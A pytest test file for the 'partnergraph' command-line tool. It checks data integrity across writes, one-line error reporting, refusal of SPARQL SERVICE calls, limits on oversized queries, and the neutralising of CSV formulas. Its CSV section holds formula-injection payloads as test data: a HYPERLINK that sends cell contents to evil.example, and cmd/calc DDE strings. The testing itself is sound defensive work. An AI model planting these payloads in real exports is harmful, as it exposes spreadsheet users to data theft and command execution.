"""Integrity as a hostile user tries it, command by command: no successful command loses or garbles data, bad
input is one ``Error:`` line naming file and line (never a traceback, never a changed file), readers see one
commit, and a local query reaches no other machine and cannot take the machine down.

Every test works on a copy of the bundled data (or a small data directory) through the command line.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import socket
import stat
import subprocess
import sys
import threading
import xml.dom.minidom
from pathlib import Path

import pyoxigraph as ox
import pytest
from click.testing import CliRunner
from conftest import DATA, snapshot

from partnergraph.cli import main

PGID = "https://w3id.org/partnergraph/id/"
SRC = PGID + "source/"
ROOT = Path(__file__).resolve().parent.parent


def run(*args, env=None):
    return CliRunner().invoke(main, [str(a) for a in args], env=env)


def cli(*args, env=None, timeout=180):
    """The command in its own process (for what could crash or hang the interpreter)."""
    full = {**os.environ, "PYTHONPATH": str(ROOT), **(env or {})}
    return subprocess.run([sys.executable, "-m", "partnergraph", *map(str, args)], capture_output=True, text=True,
                          env=full, timeout=timeout, stdin=subprocess.DEVNULL)


def stderr_of(r) -> str:
    return r.stderr if isinstance(r, subprocess.CompletedProcess) else (r.stderr or "")


def code_of(r) -> int:
    return r.returncode if isinstance(r, subprocess.CompletedProcess) else r.exit_code


def assert_one_error(r, *, where: str | None = None, match: str | None = None) -> str:
    """Exit 1, one ``Error:`` line (and perhaps one ``Hint:``), no traceback; return the error line."""
    if not isinstance(r, subprocess.CompletedProcess) and r.exception is not None and not isinstance(
            r.exception, SystemExit):
        raise AssertionError(f"exception instead of an error line: {r.exception!r}")
    err = stderr_of(r)
    assert code_of(r) == 1, (code_of(r), err, getattr(r, "stdout", ""))
    assert "Traceback" not in err, err
    lines = [x for x in err.splitlines() if x.strip()]
    errors = [x for x in lines if x.startswith("Error: ")]
    assert len(errors) == 1 and lines[0] == errors[0], err
    assert all(x.startswith(("Error: ", "Hint: ")) for x in lines), err
    if where:
        assert re.match(r"Error: " + re.escape(where) + r":\d+: ", errors[0]), errors[0]
    if match:
        assert re.search(match, errors[0]), errors[0]
    return errors[0]


def refused(args, data: Path, where: Path, line: int, words: str) -> None:
    """A reader refuses with one error line naming ``where:line``; a reporter (validate, bib lint) lists the
    error at ``where:line``; a writer refuses to write. ``words`` is in the message."""
    r = run(*args, "--data", data, "--format", "table", env={"PARTNERGRAPH_NO_CACHE": "1"}) if args[0] in (
        "validate", "bib") else run(*args, "--data", data, env={"PARTNERGRAPH_NO_CACHE": "1"})
    if args[0] in ("validate", "bib"):
        assert r.exit_code == 1 and (r.exception is None or isinstance(r.exception, SystemExit)), r.output
        hits = [x for x in r.stdout.splitlines() if x.startswith(f"{where}:{line}: error:")]
        assert hits and re.search(words, hits[0], re.I), r.stdout[:2000]
    else:
        err = assert_one_error(r, where=str(where))
        assert f":{line}:" in err and re.search(words, err, re.I), err


def assert_no_traceback(r) -> None:
    if not isinstance(r, subprocess.CompletedProcess) and r.exception is not None:
        assert isinstance(r.exception, SystemExit), repr(r.exception)
    assert "Traceback" not in stderr_of(r), stderr_of(r)
    assert code_of(r) in (0, 1), (code_of(r), stderr_of(r))


def quads(path: Path) -> set[str]:
    """The triples of a Turtle file in canonical form (blank nodes renamed by RDFC-1.0)."""
    ds = ox.Dataset(ox.parse(path.read_bytes(), format=ox.RdfFormat.TURTLE, base_iri=PGID))
    ds.canonicalize(ox.CanonicalizationAlgorithm.RDFC_1_0)
    return {str(q) for q in ds}


def append_ttl(d: Path, text: str) -> None:
    with open(d / "claims.ttl", "a", encoding="utf-8") as fh:
        fh.write("\n" + text + "\n")


def bundled_claims(n: int) -> list[str]:
    text = (DATA / "claims.ttl").read_text(encoding="utf-8")
    return re.findall(r"^(claim:[\w.-]+) a ", text, re.M)[:n]


CLAIM = bundled_claims(1)[0][6:]  # a claim derived from exactly one review (the first in the file)
KEY = "gray1989"


# ================================================================ 1. a write keeps every triple
def _list12() -> str:
    return "set:ordered12 a pg:ClaimSet ; rdfs:label \"ordered\" ; pg:order ( " + " ".join(bundled_claims(12)) + " ) ."


def _nested(depth: int) -> str:
    inner = '"bottom"'
    for i in range(depth):
        inner = f"[ pg:level {i} ; pg:inner {inner} ]"
    return f"set:nested a pg:ClaimSet ; rdfs:label \"nested\" ; pg:inner {inner} ."


WRITERS = {
    "link": lambda d: ("link", CLAIM, KEY, "--stance", "supports", "--locator", "p.99", "--data", d),
    "claim add": lambda d: ("claim", "add", "--kind", "Barrier", "--label", "A new barrier", "--derived-from",
                            "wildridgereview", "--data", d),
    "bib rename": lambda d: ("bib", "rename", "balloch2001", "balloch2001x", "--data", d),
    "bib merge": lambda d: ("bib", "merge", "gray1989", "balloch2001", "--data", d),
}


def _changed_by_writer(before: set[str], after: set[str]) -> tuple[set[str], set[str]]:
    return before - after, after - before


@pytest.mark.parametrize("writer", sorted(WRITERS))
@pytest.mark.parametrize("extra", ["list of 12", "9-deep blank nodes"])
def test_writers_keep_every_triple_they_were_not_asked_to_change(data_copy, writer, extra):
    append_ttl(data_copy, _list12() if extra == "list of 12" else _nested(9))
    before = quads(data_copy / "claims.ttl")
    r = run(*WRITERS[writer](data_copy))
    assert r.exit_code == 0, r.output
    after = quads(data_copy / "claims.ttl")
    lost, gained = _changed_by_writer(before, after)
    if writer in ("bib rename", "bib merge"):  # every lost triple names the old key, every new one the new key
        old = "balloch2001>"
        assert all(old in q for q in lost) and not any(old in q for q in gained)
        assert len(lost) == len(gained) or writer == "bib merge"
    else:
        assert lost == set(), sorted(lost)[:5]
    # the extra structure is there, whole
    if extra == "list of 12":
        assert sum("rdf-syntax-ns#first>" in q for q in after) == 12
        assert sum("rdf-syntax-ns#rest>" in q for q in after) == 12
    else:
        assert sum("/ns#level>" in q for q in after) == 9 and any('"bottom"' in q for q in after)


def test_unlink_keeps_every_other_triple(data_copy):
    append_ttl(data_copy, _list12())
    assert run(*WRITERS["link"](data_copy)).exit_code == 0
    before = quads(data_copy / "claims.ttl")
    r = run("unlink", "lib-0001", "--data", data_copy)
    assert r.exit_code == 0, r.output
    lost, gained = _changed_by_writer(before, quads(data_copy / "claims.ttl"))
    assert gained == set() and lost and all("evidence/lib-0001>" in q.split(" ")[0] for q in lost)


def _chain_facts(path: Path) -> tuple[int, bool]:
    """(number of pg:next links, whether the chain from set:chain reaches its end)."""
    nxt = ox.NamedNode("https://w3id.org/partnergraph/ns#next")
    store = ox.Store()
    store.load(path.read_bytes(), format=ox.RdfFormat.TURTLE, base_iri=PGID)
    n = len(list(store.quads_for_pattern(None, nxt, None)))
    node = next(store.quads_for_pattern(ox.NamedNode(PGID + "set/chain"), nxt, None)).object
    for _ in range(20000):
        step = list(store.quads_for_pattern(node, nxt, None))
        if not step:
            break
        node = step[0].object
    end = list(store.quads_for_pattern(node, ox.NamedNode("https://w3id.org/partnergraph/ns#end"), None))
    return n, bool(end)


def test_a_10000_deep_blank_node_chain_survives_a_write(data_copy):
    chain = ["set:chain a pg:ClaimSet ; rdfs:label \"chain\" ; pg:next _:n0 ."]
    chain += [f"_:n{i} pg:next _:n{i + 1} ." for i in range(9999)]
    chain.append('_:n9999 pg:end "end" .')
    append_ttl(data_copy, "\n".join(chain))
    assert _chain_facts(data_copy / "claims.ttl") == (10000, True)
    r = cli(*WRITERS["link"](data_copy))
    assert r.returncode == 0, r.stderr[-2000:]
    assert _chain_facts(data_copy / "claims.ttl") == (10000, True)


# ================================================================ 2. entries located by their own text
LATEX_ENTRY = """@misc{latexlines2000,
  title        = {First line\\\\
                  second line\\\\
                  third line\\\\
                  fourth line},
  author       = {Doe, Jane},
  year         = {2000},
  status       = {complete}
}

"""


def _with_latex_lines(d: Path) -> str:
    """Put an entry whose value lines end in LaTeX ``\\\\`` at the top of sources.bib; return the new text."""
    bib = d / "sources.bib"
    text = bib.read_text(encoding="utf-8")
    i = text.index("@incollection{briefing2009ch1,")
    text = text[:i] + LATEX_ENTRY + text[i:]
    bib.write_text(text, encoding="utf-8")
    return text


def test_rename_after_latex_line_breaks_changes_only_the_key(data_copy):
    old = _with_latex_lines(data_copy)
    r = run("bib", "rename", "balloch2001", "balloch2001x", "--data", data_copy)
    assert r.exit_code == 0, r.output
    new = (data_copy / "sources.bib").read_text(encoding="utf-8")
    assert new == old.replace("@book{balloch2001,", "@book{balloch2001x,")
    assert run("bib", "rename", "balloch2001x", "balloch2001", "--data", data_copy).exit_code == 0
    assert (data_copy / "sources.bib").read_text(encoding="utf-8") == old


def test_merge_after_latex_line_breaks_removes_exactly_the_dropped_entry(data_copy):
    old = _with_latex_lines(data_copy)
    r = run("bib", "merge", "gray1989", "balloch2001", "--data", data_copy)
    assert r.exit_code == 0, r.output
    new = (data_copy / "sources.bib").read_text(encoding="utf-8")
    assert new.count("}}") == old.count("}}") - dropped_braces(old)
    start = old.index("@book{balloch2001,")
    end = old.index("\n}\n", start) + 3
    dropped = old[start:end]
    assert dropped not in new
    # every entry but the two merged is byte for byte where it was
    for block in re.split(r"\n(?=@)", old):
        if block.startswith(("@book{balloch2001,", "@book{gray1989,")):
            continue
        assert block.rstrip("\n") in new, block[:60]
    assert "\n\n\n" not in new[max(0, start - 200):start + 200]
    assert run("validate", "--no-shacl", "--data", data_copy, "--format", "json").exit_code == 0


def dropped_braces(old: str) -> int:
    start = old.index("@book{balloch2001,")
    return old[start:old.index("\n}\n", start) + 3].count("}}")


def _line_of_key(text: str, key: str) -> int:
    return text[:re.search(r"@\w+\{" + re.escape(key) + r",", text).start()].count("\n") + 1


def test_lint_validate_and_todo_name_the_true_line(data_copy):
    text = _with_latex_lines(data_copy)
    bib = str(data_copy / "sources.bib")
    r = run("bib", "lint", "--data", data_copy, "--format", "json")
    findings = [f for f in json.loads(r.output) if f["where"].startswith(bib + ":") and f["key"]]
    assert findings
    for f in findings:
        assert int(f["where"].rsplit(":", 1)[1]) == _line_of_key(text, f["key"]), f
    r = run("bib", "todo", "--data", data_copy, "--format", "json")
    rows = json.loads(r.output)
    assert rows
    for row in rows:
        assert int(row["where"].rsplit(":", 1)[1]) == _line_of_key(text, row["key"]), row
    r = run("validate", "--no-shacl", "--data", data_copy, "--format", "json")
    unused = [f for f in json.loads(r.output) if f["rule"] == "unused-source"]
    assert unused
    for f in unused:
        key = re.search(r"source '([^']+)'", f["message"]).group(1)
        assert int(f["where"].rsplit(":", 1)[1]) == _line_of_key(text, key), f


def test_import_report_names_the_true_line(data_copy, tmp_path):
    extra = tmp_path / "import.bib"
    body = LATEX_ENTRY + "@book{doe2001,\n  author = {Doe, John},\n  title = {Another Book},\n  year = {2001},\n" \
                         "  publisher = {P}\n}\n\n@book{roe2002,\n  author = {Roe, Richard},\n  title = {A Third}," \
                         "\n  year = {2002},\n  publisher = {P}\n}\n"
    extra.write_text(body, encoding="utf-8")
    r = run("bib", "add", extra, "--data", data_copy, "--format", "json", "--dry-run")
    rows = json.loads(r.output)
    assert [row["line"] for row in rows] == [1, _line_of_key(body, "doe2001"), _line_of_key(body, "roe2002")]


# ================================================================ 3. one set of checks for readers and writers
BAD_DATA = {
    "link to a missing claim": "evidence:x1 a pg:EvidenceLink ; pg:aboutClaim claim:nope ; cito:hasCitingEntity "
                               "source:wildridgereview ; cito:hasCitedEntity source:gray1989 ; pg:stance pg:Supports ;"
                               " pg:attribution pg:Direct .",
    "literal for a source": "evidence:x1 a pg:EvidenceLink ; pg:aboutClaim claim:" + CLAIM + " ; cito:hasCitingEntity "
                            "source:wildridgereview ; cito:hasCitedEntity \"gray1989\" ; pg:stance pg:Supports ; "
                            "pg:attribution pg:Direct .",
    "benefit without a cell": "claim:x2 a pg:Benefit ; rdfs:label \"no cell\" ; prov:wasDerivedFrom "
                              "source:wildridgereview .",
    "derived from a missing source": "claim:x3 a pg:Barrier ; rdfs:label \"missing source\" ; prov:wasDerivedFrom "
                                     "source:nosuch .",
    "position not an integer": "claim:x4 a pg:Barrier ; rdfs:label \"bad position\" ; prov:wasDerivedFrom "
                               "source:wildridgereview ; pg:position \"abc\"^^xsd:integer .",
    "two kinds at once": "claim:x5 a pg:Benefit, pg:Barrier ; rdfs:label \"both\" ; pg:qualityCategory "
                         "pg:EconomyInput ; prov:wasDerivedFrom source:wildridgereview .",
    "attribution sideways": "evidence:x6 a pg:EvidenceLink ; pg:aboutClaim claim:" + CLAIM + " ; cito:hasCitingEntity "
                            "source:wildridgereview ; cito:hasCitedEntity source:gray1989 ; pg:stance pg:Supports ; "
                            "pg:attribution pg:Sideways .",
}


@pytest.mark.parametrize("case", sorted(BAD_DATA))
def test_readers_and_writers_refuse_the_same_data(data_copy, case):
    append_ttl(data_copy, BAD_DATA[case])
    before = snapshot(data_copy)
    claims = str(data_copy / "claims.ttl")
    reader = run("stats", "--data", data_copy, "--format", "json", env={"PARTNERGRAPH_NO_CACHE": "1"})
    assert_one_error(reader, where=claims)
    writer = run(*WRITERS["link"](data_copy))
    assert_one_error(writer, where=claims, match="refusing to write")
    assert snapshot(data_copy) == before
    v = run("validate", "--no-shacl", "--data", data_copy, "--format", "json")
    assert v.exit_code == 1 and any(f["severity"] == "error" for f in json.loads(v.output))


# ================================================================ 4. no traceback
def test_stats_with_a_claim_derived_from_a_missing_source(data_copy):
    append_ttl(data_copy, BAD_DATA["derived from a missing source"])
    assert_one_error(cli("stats", "--data", data_copy, env={"PARTNERGRAPH_NO_CACHE": "1"}),
                     where=str(data_copy / "claims.ttl"), match="nosuch")


def test_a_write_with_a_bad_lexical_form_prints_no_rdflib_traceback(data_copy):
    append_ttl(data_copy, 'claim:x7 a pg:Barrier ; rdfs:label "odd date" ; prov:wasDerivedFrom source:wildridgereview ;'
                          ' pg:where "2001-13-45"^^xsd:date .')
    r = cli(*WRITERS["link"](data_copy))
    assert "Traceback" not in r.stderr and "Failed to convert" not in r.stderr, r.stderr
    assert r.returncode in (0, 1)
    if r.returncode == 0:  # kept as it was written
        assert '"2001-13-45"^^xsd:date' in (data_copy / "claims.ttl").read_text(encoding="utf-8")


CONTROL = ["\x00", "\x0b", "\x1b[31m", "\x7f"]
EXPORTS = ["graphml", "gexf", "jsonld", "turtle", "csv"]


def _turtle_escape(ch: str) -> str:
    return "".join(f"\\u{ord(c):04X}" if ord(c) < 32 or ord(c) == 127 else c for c in ch)


@pytest.mark.parametrize("ch", CONTROL, ids=[f"U+{ord(c[0]):04X}" for c in CONTROL])
def test_control_characters_in_claims_are_refused_at_input(data_copy, ch):
    ttl = data_copy / "claims.ttl"
    text = ttl.read_text(encoding="utf-8")
    ttl.write_text(text.replace('rdfs:label "', 'rdfs:label "x' + _turtle_escape(ch), 1), encoding="utf-8")
    line = text[:text.index('rdfs:label "')].count("\n") + 1
    before = snapshot(data_copy)
    for args in (("stats",), ("validate", "--no-shacl"), ("link", CLAIM, KEY, "--stance", "supports")):
        refused(args, data_copy, ttl, line, "control character")
    assert snapshot(data_copy) == before


@pytest.mark.parametrize("ch", CONTROL, ids=[f"U+{ord(c[0]):04X}" for c in CONTROL])
def test_control_characters_in_sources_are_refused_at_input(data_copy, ch):
    bib = data_copy / "sources.bib"
    text = bib.read_text(encoding="utf-8")
    i = text.index("title = {Collaborating")
    bib.write_text(text[:i] + text[i:].replace("Collaborating", "Colla" + ch + "borating", 1), encoding="utf-8")
    line = text[:i].count("\n") + 1
    for args in (("stats",), ("bib", "lint"), ("link", CLAIM, KEY, "--stance", "supports")):
        refused(args, data_copy, bib, line, "control character")


@pytest.mark.parametrize("option", ["--label", "--where"])
def test_control_characters_in_command_arguments_are_refused(data_copy, option):
    before = snapshot(data_copy)
    args = {"--label": "A \x1b[2J barrier", "--where": "p. 3"}
    if option == "--where":
        args["--where"] = "p.\x003"
    r = run("claim", "add", "--kind", "Barrier", "--label", args["--label"], "--where", args["--where"],
            "--derived-from", "wildridgereview", "--data", data_copy)
    assert_one_error(r, match="control character")
    for bad in ("--locator", "--quote"):
        r = run("link", CLAIM, KEY, "--stance", "supports", bad, "a\x07b", "--data", data_copy)
        assert_one_error(r, match="control character")
    assert snapshot(data_copy) == before


def _well_formed(fmt: str, paths: list[Path]) -> None:
    import networkx as nx
    import rdflib

    for p in paths:
        data = p.read_bytes()
        if fmt in ("graphml", "gexf"):
            xml.dom.minidom.parseString(data)  # raises on a character XML 1.0 forbids
            if fmt == "graphml":
                nx.read_graphml(p, force_multigraph=True)
            else:
                nx.read_gexf(p)
        elif fmt == "jsonld":
            rdflib.Graph().parse(data=data.decode("utf-8"), format="json-ld")
        elif fmt == "turtle":
            rdflib.Graph().parse(data=data.decode("utf-8"), format="turtle")
        else:
            rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
            assert len({len(r) for r in rows}) == 1


_EXPORT_WITH = """
import sys
from pathlib import Path
import partnergraph as pg
import partnergraph.outputs.exports as exports
out = Path(sys.argv[1])
for code in sys.argv[2].split(","):
    ch = chr(int(code))
    for fmt in sys.argv[3].split(","):
        g = pg.load()
        name = next(n for n, d in g.nx.nodes(data=True) if d["kind"] == "claim")
        g.nx.nodes[name]["label"] = "bad" + ch + "label"
        edge = next((u, v, k) for u, v, k, d in g.nx.edges(keys=True, data=True) if d["kind"] == "evidences")
        g.nx.edges[edge]["quote"] = "a" + ch + "quote"
        for p in exports.export(g, fmt, out / f"{code}-{fmt}{exports.EXTENSIONS[fmt]}"):
            print(code, fmt, p)
"""
EXPORT_CHARS = {"NUL": "\x00", "SOH": "\x01", "ESC": "\x1b", "DEL": "\x7f", "FFFE": "\ufffe"}


@pytest.fixture(scope="module")
def hostile_exports(tmp_path_factory):
    """Every export of a graph whose fields hold each character, written through the API in a process of its
    own (a failed lxml write has crashed the interpreter): {(char, format): [paths]} and the process's stderr."""
    out = tmp_path_factory.mktemp("exports")
    codes = ",".join(str(ord(c)) for c in EXPORT_CHARS.values())
    r = subprocess.run([sys.executable, "-c", _EXPORT_WITH, str(out), codes, ",".join(EXPORTS)],
                       capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(ROOT)}, timeout=600)
    paths: dict = {}
    for line in r.stdout.splitlines():
        code, fmt, p = line.split(" ", 2)
        paths.setdefault((chr(int(code)), fmt), []).append(Path(p))
    return paths, r.stderr


@pytest.mark.parametrize("fmt", EXPORTS)
@pytest.mark.parametrize("ch", list(EXPORT_CHARS.values()), ids=list(EXPORT_CHARS))
def test_a_control_character_in_a_field_never_breaks_an_export(hostile_exports, fmt, ch):
    """Through the API, where nothing refused it at input: every export is well-formed and holds no character
    XML 1.0 forbids."""
    paths, err = hostile_exports
    assert (ch, fmt) in paths, err[-3000:]
    _well_formed(fmt, paths[(ch, fmt)])
    for p in paths[(ch, fmt)]:
        raw = p.read_bytes().decode("utf-8")
        if fmt in ("graphml", "gexf"):
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", raw)


# ================================================================ 5. SERVICE makes no outbound request
class Listener:
    """A loopback TCP server that records every connection (and answers nothing, or resets)."""

    def __init__(self, reset: bool = False):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.reset = reset
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        import struct

        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            if self.reset:  # RST instead of an answer
                conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            conn.close()

    def close(self):
        self._stop = True
        self.thread.join(2)
        self.sock.close()


@pytest.fixture
def listener():
    lst = Listener()
    yield lst
    lst.close()


SERVICE_QUERIES = [
    "SELECT * WHERE {{ SERVICE <http://127.0.0.1:{port}/sparql> {{ ?s ?p ?o }} }}",
    "select * where {{ service silent <http://127.0.0.1:{port}/sparql> {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ ?c a pg:Benefit OPTIONAL {{ SERVICE <http://127.0.0.1:{port}/> {{ ?c ?p ?o }} }} }}",
    "SELECT * WHERE {{ {{ SELECT ?s WHERE {{ SERVICE <http://127.0.0.1:{port}/> {{ ?s ?p ?o }} }} }} }}",
    "SELECT * WHERE {{ \\u0053ERVICE <http://127.0.0.1:{port}/> {{ ?s ?p ?o }} }}",
    "PREFIX ex: <http://127.0.0.1:{port}/>\nSELECT * WHERE {{ # a comment }}\n SERVICE ex:q {{ ?s ?p ?o }} }}",
    "SELECT * WHERE {{ BIND(<http://127.0.0.1:{port}/> AS ?x) SERVICE ?x {{ ?s ?p ?o }} }}",
]


@pytest.mark.parametrize("template", SERVICE_QUERIES)
def test_a_local_query_with_service_is_refused_and_contacts_nobody(listener, template, tmp_path):
    q = template.format(port=listener.port)
    r = cli("sparql", q, timeout=60)
    assert_one_error(r, match="SERVICE")
    rq = tmp_path / "shared.rq"
    rq.write_text(q, encoding="utf-8")
    assert_one_error(cli("sparql", "--file", rq, timeout=60), match="SERVICE")
    assert listener.connections == 0


def test_service_in_a_string_or_iri_is_no_service(listener):
    q = ('SELECT ?c WHERE { ?c rdfs:label ?l FILTER(?l != "SERVICE <http://127.0.0.1:' + str(listener.port)
         + '/> { }") FILTER(?c != <http://example.org/SERVICE>) } LIMIT 1')
    r = run("sparql", q, "--format", "json")
    assert r.exit_code == 0, r.output
    assert len(json.loads(r.output)) == 1 and listener.connections == 0


def test_allow_service_lets_the_query_out(listener):
    r = cli("sparql", "--allow-service", f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{listener.port}/> "
                                         "{ ?s ?p ?o } }", timeout=60)
    assert listener.connections >= 1
    assert_one_error(r)  # the listener answers nothing: a one-line error, no traceback


def test_service_connection_reset_is_one_error_line():
    lst = Listener(reset=True)
    try:
        r = cli("sparql", "--allow-service", f"SELECT * WHERE {{ SERVICE <http://127.0.0.1:{lst.port}/> "
                                             "{ ?s ?p ?o } }", timeout=60)
        assert lst.connections >= 1
        assert_one_error(r)
    finally:
        lst.close()


# ================================================================ 6. pathological queries
def test_ten_thousand_triple_patterns_are_refused(tmp_path):
    rq = tmp_path / "big.rq"  # too long for a command-line argument
    rq.write_text("SELECT * WHERE { " + " ".join(f"?s{i} ?p{i} ?o{i} ." for i in range(10000)) + " }")
    assert_one_error(cli("sparql", "--file", rq, timeout=120), match="too large|too many")


def test_five_thousand_nested_groups_are_refused():
    q = "SELECT * WHERE " + "{ " * 5000 + "?s ?p ?o " + "} " * 5000
    assert_one_error(cli("sparql", q, timeout=120), match="nest")


def test_a_cross_product_stops_at_the_time_limit():
    q = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    r = cli("sparql", "--timeout", "1", q, timeout=120)
    assert_one_error(r, match="time limit")


def test_the_time_limit_comes_from_the_environment_too():
    q = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    r = cli("sparql", q, env={"PARTNERGRAPH_QUERY_TIMEOUT": "1"}, timeout=120)
    assert_one_error(r, match="time limit")


@pytest.mark.parametrize("value", ["0", "-1", "abc", "nan"])
def test_a_bad_time_limit_is_refused(value):
    assert_one_error(run("sparql", "ASK { ?s ?p ?o }", env={"PARTNERGRAPH_QUERY_TIMEOUT": value}),
                     match="PARTNERGRAPH_QUERY_TIMEOUT")


def test_a_huge_result_is_refused_with_a_hint():
    q = "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f }"
    r = cli("sparql", "--timeout", "60", q, timeout=180)
    assert_one_error(r, match="rows")


def test_an_ordinary_query_still_answers():
    r = run("sparql", "SELECT (COUNT(*) AS ?n) WHERE { ?c a pg:Benefit }", "--format", "json")
    assert r.exit_code == 0 and int(json.loads(r.output)[0]["n"]) > 0


# ================================================================ 8. CSV formula injection
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(data_copy) -> Path:
    """Claim labels, a locator and a source title that a spreadsheet would evaluate."""
    ttl = data_copy / "claims.ttl"
    text = ttl.read_text(encoding="utf-8")
    parts = text.split('rdfs:label "')
    for i, p in enumerate(PAYLOADS, 1):  # one payload at the start of each of the first labels
        parts[i] = p.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") \
            + " " + parts[i]
    text = 'rdfs:label "'.join(parts)
    text = text.replace('pg:locator "', 'pg:locator "=1+2 ', 3)
    ttl.write_text(text, encoding="utf-8")
    bib = data_copy / "sources.bib"
    bib.write_text(bib.read_text(encoding="utf-8").replace("title = {Collaborating",
                                                           "title = {@SUM(A1) Collaborating", 1),
                   encoding="utf-8")
    return data_copy


def assert_no_formula(text: str) -> int:
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    bad = [c for c in cells if c.startswith(FORMULA_START)]
    assert not bad, bad[:5]
    return sum(c.startswith("'") and c[1:2] in "=+-@\t\r" for c in cells)


CSV_COMMANDS = [("benefits",), ("claims",), ("barriers",), ("drivers",), ("factors",), ("gaps",),
                ("single-source",), ("undirected",), ("contested",), ("strength",), ("search", "collaborat"),
                ("claims", "--source", "gray1989"), ("evidence", "s000-ac-rec-a-know"), ("related", CLAIM),
                ("cocited", "--limit", "20"), ("stats",), ("validate", "--no-shacl"), ("bib", "lint"),
                ("bib", "todo"), ("bib", "dedupe"),
                ("sparql", "SELECT ?l WHERE { ?c rdfs:label ?l }")]


@pytest.mark.parametrize("args", CSV_COMMANDS, ids=[" ".join(a[:2]) for a in CSV_COMMANDS])
def test_every_csv_listing_neutralises_formulas(hostile, args):
    r = run(*args, "--format", "csv", "--data", hostile)
    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
    assert_no_formula(r.stdout)


def test_listings_that_show_hostile_text_prefix_a_quote(hostile):
    r = run("sparql", "SELECT ?l WHERE { ?c rdfs:label ?l }", "--format", "csv", "--data", hostile)
    # a leading carriage return is shown as U+FFFD (no control character reaches a listing): no formula either
    assert assert_no_formula(r.stdout) >= len(PAYLOADS) - 1
    assert "'=HYPERLINK(" in r.stdout and "\ufffd=1+1" in r.stdout
    # JSON keeps the text exactly as it is in the data
    j = run("sparql", "SELECT ?l WHERE { ?c rdfs:label ?l }", "--format", "json", "--data", hostile)
    assert any(row["l"].startswith("=HYPERLINK(") for row in json.loads(j.stdout))


def test_export_csv_and_gaps_file_neutralise_formulas(hostile, tmp_path):
    r = run("export", "--to", "csv", "-o", tmp_path / "g.csv", "--data", hostile)
    assert r.exit_code == 0, r.output
    n = sum(assert_no_formula((tmp_path / f).read_text(encoding="utf-8")) for f in ("g-nodes.csv", "g-edges.csv"))
    assert n >= len(PAYLOADS)
    r = run("gaps", "-o", tmp_path / "gaps.csv", "--data", hostile)
    assert r.exit_code == 0
    assert_no_formula((tmp_path / "gaps.csv").read_text(encoding="utf-8"))


def test_numbers_stay_numbers_in_csv():
    r = run("stats", "--format", "csv")
    rows = list(csv.reader(io.StringIO(r.stdout)))
    assert all(row[2].isdigit() for row in rows[1:])


# ================================================================ 9. keys
def test_keys_differing_only_in_case_are_refused_everywhere(data_copy):
    bib = data_copy / "sources.bib"
    text = bib.read_text(encoding="utf-8")
    bib.write_text(text + "\n@book{Gray1989,\n  author = {Gray, B.},\n  title = {Other},\n  year = {1989},\n"
                          "  publisher = {P},\n  status = {complete}\n}\n", encoding="utf-8")
    line = text.count("\n") + 2
    before = snapshot(data_copy)
    for args in (("stats",), ("validate", "--no-shacl"), ("bib", "lint"), ("link", CLAIM, KEY, "--stance",
                                                                            "supports")):
        refused(args, data_copy, bib, line, "gray1989.*case")
    assert snapshot(data_copy) == before


def test_import_refuses_a_key_differing_only_in_case(data_copy, tmp_path):
    extra = tmp_path / "x.bib"
    extra.write_text("@book{Gray1989,\n  author = {Grey, Barbara},\n  title = {Something else entirely},\n"
                     "  year = {1989},\n  publisher = {P}\n}\n", encoding="utf-8")
    r = run("bib", "add", extra, "--data", data_copy, "--format", "json")
    assert r.exit_code == 0
    keys = [row["key"] for row in json.loads(r.output) if row["outcome"] == "added"]
    assert keys and all(k.lower() != "gray1989" for k in keys)
    assert run("validate", "--no-shacl", "--data", data_copy).exit_code == 0


@pytest.mark.parametrize("entry", ["@misc{,\n  title = {No key},\n  year = {2000}\n}\n",
                                   "@misc{ ,\n  title = {No key},\n  year = {2000}\n}\n"])
def test_an_empty_key_is_refused(data_copy, entry):
    bib = data_copy / "sources.bib"
    text = bib.read_text(encoding="utf-8")
    bib.write_text(text + "\n" + entry, encoding="utf-8")
    for args in (("stats",), ("validate", "--no-shacl"), ("bib", "lint")):
        refused(args, data_copy, bib, text.count("\n") + 2, "without a citation key")


# ================================================================ 10. readers see one commit
def test_a_reader_never_pairs_files_of_two_commits(data_copy):
    """A reader that has read sources.bib when a two-file write lands must not pair it with the new claims.ttl."""
    reader = subprocess.Popen([sys.executable, "-m", "partnergraph", "claims", "--source", "balloch2001",
                               "--format", "json", "--data", str(data_copy)],
                              env={**os.environ, "PYTHONPATH": str(ROOT), "PARTNERGRAPH_NO_CACHE": "1",
                                   "PARTNERGRAPH_TEST_PAUSE_AFTER_READ_SOURCES": "6"},
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    import time

    time.sleep(2.0)  # the reader has opened sources.bib and waits
    w = run("bib", "rename", "balloch2001", "balloch2001x", "--data", data_copy)
    assert w.exit_code == 0, w.output
    out, err = reader.communicate(timeout=120)
    # either answer is right (before or after the rename); a mix of both is not
    assert reader.returncode in (0, 1), err
    assert "Traceback" not in err and "not in sources.bib" not in err and "does not exist" not in err, err
    if reader.returncode == 0:
        assert json.loads(out)


# ================================================================ 7. writers compute only what they print
